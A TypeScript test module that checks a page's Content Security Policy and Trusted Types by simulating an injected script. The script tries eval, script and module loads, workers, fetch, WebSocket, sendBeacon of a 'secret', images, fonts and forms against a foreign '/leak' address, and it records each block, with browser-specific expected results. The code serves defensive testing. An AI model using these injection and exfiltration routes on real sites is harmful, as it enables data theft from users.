/** What a script in the page tries when it has got in somehow: each runs into the page's policy. */

/** How each attempt of `makeAttempts` ends. */
export const ATTEMPTS = {
  'eval of a text': 'EvalError',
  'a function made of text': 'EvalError',
  'a timer with a text': 'TypeError',
  'markup of text': 'TypeError',
  'a script element with an address elsewhere': 'TypeError',
  'a script element with text': 'TypeError',
  'a frame with markup': 'TypeError',
  'an object from elsewhere': 'TypeError',
  'a worker from elsewhere': 'TypeError',
  'a worker from a blob': 'TypeError',
  'a service worker from elsewhere': 'TypeError',
  'another policy': 'TypeError',
  'a second default policy': 'TypeError',
  'a module from elsewhere': 'TypeError',
  'a module from a blob': 'TypeError',
  'fetch from elsewhere': 'TypeError',
  'a request from elsewhere': 'NetworkError',
  'a socket': 'connect-src',
  'an event source': 'connect-src',
  'a beacon': 'connect-src',
  'a picture': 'img-src',
  'a style sheet': 'style-src-elem',
  'a style that imports': 'style-src-elem',
  'a background picture': 'img-src',
  'a font': 'font-src',
  'a sound': 'media-src',
  'a frame': 'frame-src',
  'a form': 'form-action',
  'a base address': 'base-uri',
} as const;

/** Where Firefox ends some of them in another place. The object is an element then, for which nothing is loaded. */
export const FIREFOX_ATTEMPTS = {
  ...ATTEMPTS,
  'an object from elsewhere': 'done',
  'a socket': 'refused at once',
  'a form': 'refused at once',
} as const;

/** And WebKit. */
export const WEBKIT_ATTEMPTS = {
  ...ATTEMPTS,
  'an object from elsewhere': 'done',
  'a socket': 'refused at once',
  'an event source': 'refused at once',
} as const;

/** Runs in the page: nothing from outside of it is in scope. */
export async function makeAttempts(foreign: string): Promise<Record<string, string>> {
  // What the debug protocol itself evaluates may make code of text, until it has returned once.
  await new Promise((resolve) => setTimeout(resolve, 0));
  const address = `${foreign}/leak`;
  const append = <Name extends keyof HTMLElementTagNameMap>(
    name: Name,
    given: Partial<Record<keyof HTMLElementTagNameMap[Name], unknown>>,
  ): void => {
    document.body.append(Object.assign(document.createElement(name), given));
  };
  const style = (text: string): void => {
    append('style', { textContent: text });
  };
  const throwing: Record<string, () => unknown> = {
    'eval of a text': () => (0, eval)('1') as unknown,
    // oxlint-disable-next-line typescript/no-implied-eval
    'a function made of text': () => new Function('return 1'),
    // oxlint-disable-next-line typescript/no-implied-eval
    'a timer with a text': () => setTimeout('void 0', 0),
    'markup of text': () => (document.createElement('p').innerHTML = '<b>x</b>'),
    'a script element with an address elsewhere': () => {
      append('script', { src: address });
    },
    'a script element with text': () => {
      append('script', { text: 'void 0' });
    },
    'a frame with markup': () => {
      append('iframe', { srcdoc: '<p>x</p>' });
    },
    'an object from elsewhere': () => {
      append('object', { data: address });
    },
    'a worker from elsewhere': () => new Worker(address),
    'a worker from a blob': () => new Worker(URL.createObjectURL(new Blob(['']))),
    'a service worker from elsewhere': () => navigator.serviceWorker.register(address),
    'another policy': () => policies().createPolicy('mine', {}),
    'a second default policy': () => policies().createPolicy('default', {}),
    'a module from elsewhere': () => import(address) as Promise<unknown>,
    'a module from a blob': () =>
      import(URL.createObjectURL(new Blob([''], { type: 'text/javascript' }))) as Promise<unknown>,
    'fetch from elsewhere': () => fetch(address, { mode: 'no-cors' }),
    'a request from elsewhere': () => {
      const request = new XMLHttpRequest();
      request.open('GET', address, false);
      request.send();
    },
  };
  const reported: Record<string, (address: string) => unknown> = {
    'a socket': (url) => new WebSocket(url.replace('http', 'ws')),
    'an event source': (url) => new EventSource(url),
    'a beacon': (url) => navigator.sendBeacon(url, 'secret'),
    'a picture': (url) => (new Image().src = url),
    'a style sheet': (url) => {
      append('link', { rel: 'stylesheet', href: url });
    },
    'a style that imports': (url) => {
      style(`@import "${url}"`);
    },
    'a background picture': (url) => {
      style(`body { background-image: url("${url}") }`);
    },
    'a font': (url) => {
      style(`@font-face { font-family: leak; src: url("${url}") } body { font-family: leak }`);
    },
    'a sound': (url) => {
      new Audio(url).load();
    },
    'a frame': (url) => {
      append('iframe', { src: url });
    },
    'a form': (url) => {
      const form = document.createElement('form');
      document.body.append(Object.assign(form, { action: url, method: 'post' }));
      form.submit();
    },
    'a base address': (url) => {
      document.head.append(Object.assign(document.createElement('base'), { href: url }));
    },
  };
  // A report may be late, and may name no more than an origin: so each attempt has one of its own.
  const reports: { uri: string; directive: string }[] = [];
  document.addEventListener('securitypolicyviolation', ({ blockedURI, effectiveDirective }) => {
    reports.push({ uri: blockedURI.replace('ws:', 'http:'), directive: effectiveDirective });
  });
  const ended: Record<string, string> = {};
  for (const [name, attempt] of Object.entries(throwing)) {
    try {
      await attempt();
      ended[name] = 'done';
    } catch (error) {
      ended[name] = error instanceof Error ? error.name : String(error);
    }
  }
  const origins = new Map(
    Object.keys(reported).map((name, i) => [
      name,
      foreign.replace('://localhost', `://a${String(i)}.localhost`),
    ]),
  );
  for (const [name, attempt] of Object.entries(reported)) {
    try {
      attempt(`${origins.get(name) ?? ''}/leak`);
    } catch {
      ended[name] = 'refused at once';
    }
  }
  const reportOf = (name: string): string | undefined =>
    reports.find(({ uri }) => uri.startsWith(origins.get(name) ?? 'none'))?.directive;
  for (let waits = 0; waits < 100; waits += 1) {
    if (Object.keys(reported).every((name) => (ended[name] ?? reportOf(name)) !== undefined)) break;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  for (const name of Object.keys(reported)) ended[name] ??= reportOf(name) ?? 'no report';
  return ended;

  function policies(): { createPolicy: (name: string, rules: object) => unknown } {
    return (globalThis as unknown as { trustedTypes: ReturnType<typeof policies> }).trustedTypes;
  }
}
